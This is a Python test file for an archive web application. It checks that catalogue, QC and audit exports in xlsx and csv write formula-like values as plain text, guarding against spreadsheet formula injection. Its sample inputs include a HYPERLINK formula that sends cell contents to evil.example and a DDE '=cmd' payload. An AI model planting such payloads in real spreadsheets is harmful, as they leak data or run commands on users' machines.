"""Issue 8 item 3: text that looks like a formula is exported as text, in every xlsx and csv export."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from archive.catalogue.models import Material
from archive.extensions import db
from archive.roles import Role
from archive.scanning.models import QcFinding
from archive.spreadsheets import csv_safe, is_formula_like
from tests.conftest import login

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2,"点此")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def test_the_helpers() -> None:
    assert all(is_formula_like(v) for v in HOSTILE)
    assert not any(is_formula_like(v) for v in ("干部履历表", "1-2", "", None, 5, "复印件 =1"))
    assert [csv_safe(v) for v in ("=1", "x", 3)] == ["'=1", "x", 3]


def _cells(data: bytes):  # type: ignore[no-untyped-def]
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


def test_catalogue_export_writes_titles_and_remarks_as_text(app, client, factory):
    file = factory.file("德胜", materials=0)
    with app.app_context():
        for seq, text in enumerate(HOSTILE, start=1):
            db.session.add(Material(file_id=file.id, class_no=1, subclass=0, seq=seq, title=text, remarks=text,
                                    pages=1))
        db.session.commit()
    login(client, factory.user(Role.ARCHIVIST).username)
    response = client.get(f"/files/{file.id}/catalogue.xlsx")
    assert response.status_code == 200
    cells = [c for c in _cells(response.data) if c.value in HOSTILE]
    assert len(cells) == 2 * len(HOSTILE)
    assert {c.data_type for c in cells} == {"s"}  # never "f": the text is shown, not run


def test_qc_export_writes_resolutions_and_messages_as_text(app, client, factory):
    file = factory.file("德胜")
    factory.ingested(file)
    with app.app_context():
        finding = db.session.scalar(select(QcFinding).where(QcFinding.file_id == file.id))
        finding.status, finding.resolution, finding.resolved_by = "accepted", HOSTILE[0], "=cmd|' /C calc'!A0"
        db.session.commit()
    login(client, factory.user(Role.ARCHIVIST).username)
    response = client.get(f"/files/{file.id}/qc.xlsx")
    cells = [c for c in _cells(response.data) if is_formula_like(c.value)]
    assert {c.value for c in cells} == {HOSTILE[0], "=cmd|' /C calc'!A0"}
    assert {c.data_type for c in cells} == {"s"}


def test_imported_remarks_come_back_as_text(app, client, factory, tmp_path):
    from tests.integration.test_catalogue_import import CAT_HEADER, run_import, write_csv

    path = write_csv(tmp_path / "目录.csv", CAT_HEADER, [["XC-FX-1", "一", 1, HOSTILE[0], "1990", 2, "@SUM(A1)"]])
    assert run_import(app, path).exit_code == 0
    with app.app_context():
        material = db.session.scalar(select(Material).where(Material.title == HOSTILE[0]))
        assert material is not None and material.remarks == "@SUM(A1)"
        file_id = material.file_id
    login(client, factory.user(Role.ARCHIVIST).username)
    cells = [c for c in _cells(client.get(f"/files/{file_id}/catalogue.xlsx").data) if is_formula_like(c.value)]
    assert {c.value for c in cells} == {HOSTILE[0], "@SUM(A1)"} and {c.data_type for c in cells} == {"s"}


def test_audit_csv_and_xlsx_neutralise_tab_and_cr_too(app, client, factory):
    from archive.audit import record

    with app.app_context():
        record("test.formula", reason="\t=1+1", target_type="x", target_id="\r=2")
        db.session.commit()
    login(client, factory.user(Role.AUDITOR).username)
    text = client.get("/audit/export.csv?action=test.formula").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    flat = [v for row in rows[1:] for v in row]
    assert "'\t=1+1" in flat and not any(v.startswith(("=", "\t", "\r")) for v in flat)
    cells = _cells(client.get("/audit/export.xlsx?action=test.formula").data)
    assert all(c.data_type != "f" for c in cells)
